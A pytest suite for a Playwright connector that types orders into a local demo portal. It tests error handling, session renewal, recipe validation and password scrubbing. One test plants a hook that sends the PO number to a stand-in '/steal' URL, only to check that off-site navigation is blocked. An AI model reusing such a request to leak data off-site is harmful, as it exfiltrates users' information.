"""The Playwright portal connector against the real demo portal in Chromium:
every trap of the portal (popup, postbacks, decimal comma, dd.mm.yyyy,
confirm dialog, session expiry, 500s, commit-then-fail, maintenance) and the
recipe's validation at load."""

from __future__ import annotations

import sys
import textwrap
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import httpx
import pytest

from bot.errors import ConfigError, KeyingUncertain, PortalRejected, PortalUnavailable
from bot.ports import PortalEntry, PortalLine
from connectors.portal.playwright_portal import PlaywrightPortal, PortalSession, format_decimal, parse_decimal
from connectors.portal.recipe import load_recipe
from demo.portal.app import PortalConfig, PortalServer, run_in_thread

ROOT = Path(__file__).resolve().parents[1]
RECIPE = ROOT / "config" / "portals" / "demo.yaml"
MASTER_DATA = ROOT / "demo" / "masterdata"

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PortalServer]:
    db = tmp_path_factory.mktemp("portal") / "portal.db"
    with run_in_thread(PortalConfig(db_path=db, master_data=MASTER_DATA, test_api=True, seed=3)) as srv:
        yield srv


@pytest.fixture(scope="module")
def portal(server: PortalServer) -> Iterator[PlaywrightPortal]:
    with PlaywrightPortal(load_recipe(RECIPE), PortalSession(server.url, "clerk", "clerk-pass", timeout_ms=8000)) as opened:
        yield opened


@pytest.fixture(autouse=True)
def clean(server: PortalServer) -> Iterator[None]:
    httpx.post(f"{server.url}/_test/reset")
    yield
    config = server.config
    config.maintenance, config.error_rate, config.commit_then_fail_rate = False, 0.0, 0.0
    config.latency_ms, config.session_timeout = 0, 900


def saved(server: PortalServer) -> list[dict]:
    return httpx.get(f"{server.url}/_test/orders").json()


def entry(po: str, *lines: PortalLine, **header) -> PortalEntry:
    if "ship_to_text" not in header:
        header.setdefault("ship_to_id", "C1001-01")
    return PortalEntry(**{"customer_id": "C1001", "po_number": po,
                          "lines": lines or (PortalLine("AX-1523", Decimal(4)),), **header})


def test_a_full_order_is_typed_saved_and_read_back_as_sent(server, portal):
    lines = tuple(PortalLine("AX-1523", Decimal(i), Decimal("18.9")) for i in range(1, 13))  # "add more rows" twice
    sent = entry("PO-FULL-1", *lines, requested_date=date(2026, 12, 14), ship_to_id="C1001-02", urgent=True)
    receipt = portal.submit(sent)
    assert receipt.order_number.startswith("SO-")
    (order,) = saved(server)
    assert order["customer_ref"] == "PO-FULL-1" and order["requested_date"] == "2026-12-14"
    assert order["ship_to"] == "C1001-02" and order["rush"] is True and order["ship_method"] == "STD"
    assert [Decimal(line["quantity"]) for line in order["lines"]] == list(range(1, 13))
    back = portal.read(receipt.order_number)
    assert back.customer_id == "C1001" and back.po_number == "PO-FULL-1" and back.urgent is True
    assert back.requested_date == date(2026, 12, 14) and back.ship_to_id == "C1001-02"
    assert back.lines == lines


def test_the_customer_can_be_picked_in_the_lookup_popup(server, tmp_path):
    text = RECIPE.read_text()
    typed = ('    - fill: {target: {label: Customer no.}, value: "{customer_id}"}\n'
             "    - click: {role: button, name: Select customer}\n")
    assert typed in text
    popup = ('    - popup:\n        open: {click: {role: button, name: "Lookup…"}}\n'
             "        steps: [{click: {css: \"a.pick[data-customer='{customer_id}']\"}}]\n        reloads: true\n")
    recipe = tmp_path / "popup.yaml"
    recipe.write_text(text.replace(typed, popup))
    with PlaywrightPortal(load_recipe(recipe), PortalSession(server.url, "clerk", "clerk-pass")) as p:
        p.submit(entry("PO-POPUP", ship_to_id="C1001-02"))
    (order,) = saved(server)
    assert (order["customer_no"], order["ship_to"]) == ("C1001", "C1001-02")


def test_decimals_are_typed_with_the_portals_comma_and_a_free_address_as_other(server, portal):
    portal.submit(entry("PO-DEC", PortalLine("AX-1523", Decimal("2.5"), Decimal("18.9")),
                        ship_to_text="Nordwind Lager Ost\nOststrasse 1\n20000 Hamburg\nDE"))
    (order,) = saved(server)
    assert Decimal(order["lines"][0]["quantity"]) == Decimal("2.5")
    assert Decimal(order["lines"][0]["unit_price"]) == Decimal("18.9")
    assert order["ship_to"] == "OTHER" and "Oststrasse 1" in order["ship_to_text"]


def test_a_price_off_the_list_is_confirmed_in_the_portals_dialog(server, portal):
    portal.submit(entry("PO-PRICE", PortalLine("AX-1523", Decimal(3), Decimal("25"))))
    (order,) = saved(server)
    assert Decimal(order["lines"][0]["unit_price"]) == 25


def test_the_search_finds_the_order_by_customer_and_po_in_any_case(server, portal):
    number = portal.submit(entry("PO-Find-7")).order_number
    found = portal.find("C1001", " po-find-7 ")
    assert found is not None and found.order_number == number
    assert portal.find("C1002", "PO-Find-7") is None
    assert portal.find("C1001", "PO-Find-") is None


def test_the_portals_refusal_is_reported_in_its_own_words_with_a_screenshot(server, portal):
    with pytest.raises(PortalRejected, match="Unknown item NOPE-1"):
        portal.submit(entry("PO-BAD", PortalLine("NOPE-1", Decimal(1))))
    kinds = {kind for kind, _, data in portal.diagnostics() if data}
    assert kinds == {"screenshot", "trace"}
    assert saved(server) == []


def test_a_500_before_the_save_is_transient_and_saves_nothing(server, portal):
    server.config.error_rate = 1.0
    with pytest.raises(PortalUnavailable) as caught:
        portal.submit(entry("PO-500"))
    assert not isinstance(caught.value, KeyingUncertain)
    assert saved(server) == []


def test_commit_then_fail_is_uncertain_and_the_order_is_there(server, portal):
    server.config.commit_then_fail_rate = 1.0
    with pytest.raises(KeyingUncertain):
        portal.submit(entry("PO-CTF"))
    server.config.commit_then_fail_rate = 0.0
    (order,) = saved(server)
    assert portal.find("C1001", "PO-CTF").order_number == order["order_number"]


def test_maintenance_is_transient(server, portal):
    server.config.maintenance = True
    with pytest.raises(PortalUnavailable, match="503"):
        portal.find("C1001", "PO-M")
    with pytest.raises(PortalUnavailable):
        portal.submit(entry("PO-M"))
    server.config.maintenance = False
    assert saved(server) == []


def test_an_expired_session_is_renewed_by_logging_in_again(server, portal):
    portal.submit(entry("PO-S1"))
    # The portal forgets the session (as after its idle timeout): the next page is its login.
    portal._context.clear_cookies()  # noqa: SLF001
    assert portal.find("C1001", "PO-S1") is not None  # found after logging in again
    portal._context.clear_cookies()  # noqa: SLF001
    assert portal.submit(entry("PO-S2")).order_number  # ended before typing: logged in, typed once
    assert sorted(o["customer_ref"] for o in saved(server)) == ["PO-S1", "PO-S2"]


def test_a_wrong_password_stops_with_a_clear_error(server):
    with PlaywrightPortal(load_recipe(RECIPE), PortalSession(server.url, "clerk", "wrong", timeout_ms=5000)) as bad:
        with pytest.raises(ConfigError, match="refused the login of 'clerk'.*Invalid user name or password"):
            bad.find("C1001", "X")


def test_navigation_outside_the_portal_is_blocked(server, tmp_path, monkeypatch):
    hooks = tmp_path / "offsite_hooks.py"
    hooks.write_text(textwrap.dedent("""
        SEEN = []

        def leave(page, values):
            other = page.context.new_page()
            try:
                other.goto("http://127.0.0.2:9/steal?ref=" + values["po_number"], timeout=3000)
            except Exception as exc:
                SEEN.append(str(exc))
            finally:
                other.close()
    """))
    monkeypatch.syspath_prepend(str(tmp_path))
    recipe_text = RECIPE.read_text().replace("entry:\n  steps:\n", "entry:\n  steps:\n    - hook: offsite_hooks:leave\n", 1)
    recipe_path = tmp_path / "offsite.yaml"
    recipe_path.write_text(recipe_text)
    with PlaywrightPortal(load_recipe(recipe_path), PortalSession(server.url, "clerk", "clerk-pass", timeout_ms=5000)) as p:
        p.submit(entry("PO-OFF"))
    import offsite_hooks

    assert len(offsite_hooks.SEEN) == 1 and "ERR_BLOCKED_BY_CLIENT" in offsite_hooks.SEEN[0]
    assert saved(server)[0]["customer_ref"] == "PO-OFF"  # the order itself went on
    sys.modules.pop("offsite_hooks", None)


def test_a_hook_runs_where_yaml_cannot_say_it(server, tmp_path, monkeypatch):
    hooks = tmp_path / "note_hooks.py"
    hooks.write_text("def shout(page, values):\n    page.get_by_label('Customer reference').fill(values['po_number'] + '-X')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    recipe_path = tmp_path / "hooked.yaml"
    recipe_path.write_text(RECIPE.read_text().replace(
        "  lines:\n    # Five rows", "  before_save:\n    - hook: note_hooks:shout\n  lines:\n    # Five rows", 1))
    with PlaywrightPortal(load_recipe(recipe_path), PortalSession(server.url, "clerk", "clerk-pass")) as p:
        p.submit(entry("PO-HOOK"))
    assert saved(server)[0]["customer_ref"] == "PO-HOOK-X"
    sys.modules.pop("note_hooks", None)


# -- recipe validation -------------------------------------------------------------

@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("    - goto: /orders/new\n", "    - goto: /orders/new\n    - hover: {css: x}\n"),
         r"entry\.steps\[1\]: a step needs exactly one action"),
        (('value: "{po_number}"', 'value: "{po_nummer}"'), r"entry\.steps\[\d\]\.fill\.value: unknown value \{po_nummer\}"),
        (('regex: "Order (?P<number>[A-Z]+-\\\\d+) has been saved"', 'regex: "Order (\\\\S+) saved"'),
         r"confirmation\.regex: needs a group named 'number'"),
        (('{message: "differs from the list price", accept: true}', '{message: "(unclosed", accept: true}'),
         r"dialogs\[0\]\.message: bad regular expression"),
        (("    - fill: {target: {label: User name}", "    - fill: {target: {label: User name, css: x}"),
         r"login\.steps\[1\]\.fill\.target: a target needs exactly one of"),
        (('date: "%d.%m.%Y"', 'date: "dd.mm.yyyy"'), r"formats\.date: expected a strftime format"),
        (("    - goto: /orders/new\n", "    - goto: /orders/new\n    - hook: no_such_module:f\n"),
         r"entry\.steps\[1\]\.hook: cannot import hook 'no_such_module:f'"),
        (("      when: urgent\n", "      when: rush\n"), r"entry\.steps\[\d\]\.when: unknown value 'rush'"),
    ],
)
def test_a_bad_recipe_stops_at_load_naming_the_step(tmp_path, change, message):
    old, new = change
    text = RECIPE.read_text()
    assert old in text, old
    bad = tmp_path / "bad.yaml"
    bad.write_text(text.replace(old, new, 1))
    with pytest.raises(ConfigError, match=message) as caught:
        load_recipe(bad)
    assert str(bad) in str(caught.value)


def test_a_recipe_that_is_not_yaml_or_lacks_a_section_is_refused(tmp_path):
    broken = tmp_path / "broken.yaml"
    broken.write_text("name: [unclosed\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_recipe(broken)
    broken.write_text("name: x\nlogin: {steps: []}\n")
    with pytest.raises(ConfigError, match="recipe: 'search' is required"):
        load_recipe(broken)


@pytest.mark.parametrize(
    ("value", "separator", "text"),
    [(Decimal("2.50"), ",", "2,5"), (Decimal("1E+3"), ",", "1000"), (Decimal("18.9000"), ".", "18.9"), (Decimal(4), ",", "4")],
)
def test_decimals_are_formatted_plainly(value, separator, text):
    assert format_decimal(value, separator) == text


def test_decimals_are_read_in_the_portals_format():
    assert parse_decimal("1.234,50", ",", ".") == Decimal("1234.5")
    assert parse_decimal(" ", ",", ".") is None
    assert parse_decimal("n/a", ",", ".") is None


def test_the_password_never_shows_in_a_session_repr():
    session = PortalSession("http://127.0.0.1:1", "clerk", "canary-pw-5521")
    assert "canary-pw-5521" not in repr(session) and "clerk" in repr(session)


def test_a_trace_is_scrubbed_of_the_password_in_every_encoding():
    import io
    import zipfile

    from connectors.portal.playwright_portal import scrub_trace

    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr("trace.network", 'body=username%3Dclerk%26password%3Dp%26ss+w%21 "p&ss w!" p%26ss%20w%21')
        archive.writestr("resources/x.html", b"<input value='p&ss w!'>")
    with zipfile.ZipFile(io.BytesIO(scrub_trace(raw.getvalue(), "p&ss w!"))) as archive:
        texts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"p&ss" not in texts and b"p%26ss" not in texts and texts.count(b"********") == 4
